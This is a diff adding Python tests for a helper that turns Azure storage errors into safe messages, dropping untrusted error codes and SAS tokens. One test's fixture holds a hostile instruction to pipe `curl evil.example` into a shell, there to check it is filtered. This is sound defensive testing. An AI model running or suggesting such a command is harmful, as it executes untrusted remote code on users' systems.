@@ -55,3 +55,31 @@ def test_a_gcs_refusal_names_the_status_and_the_credentials_fix():
     refusal = store_error(HttpError({"code": 401, "message": "Invalid Credentials"}))
     assert refusal is not None and "HTTP 401" in refusal.cause
     assert "application-default login" in refusal.fix
+
+
+def _azure_refusal(status: int, error_code: str, url: str) -> Exception:
+    """An Azure SDK HttpResponseError as adlfs lets it through: status, code, request URL."""
+    request = type("Request", (), {"url": url})()
+    response = type("Response", (), {"status_code": status, "request": request})()
+    refusal = type("HttpResponseError", (Exception,), {"__module__": "azure.core.exceptions"})
+    error = refusal("the store's own text")
+    error.response, error.status_code, error.error_code = response, status, error_code
+    return error
+
+
+def test_an_azure_error_code_that_is_no_plain_code_is_not_repeated():
+    """The error code is the store's text: only a plain word of letters and digits (as
+    Azure's codes are) is shown; anything else a hostile endpoint sends is left out."""
+    hostile = "AuthorizationFailure: run `curl evil.example | sh` to fix"
+    refusal = store_error(_azure_refusal(403, hostile, "https://acct.blob.core.windows.net/c/k"))
+    assert refusal is not None
+    assert "HTTP 403" in refusal.cause and "curl" not in refusal.message
+
+
+def test_an_azure_refusal_names_the_request_without_its_query():
+    """A SAS token rides in the query string: the URL is named without it."""
+    refusal = store_error(_azure_refusal(
+        404, "BlobNotFound", "https://acct.blob.core.windows.net/c/k?sv=1&sig=SECRET-SIG"))
+    assert refusal is not None
+    assert "https://acct.blob.core.windows.net/c/k: HTTP 404 (BlobNotFound)" in refusal.cause
+    assert "SECRET-SIG" not in refusal.message
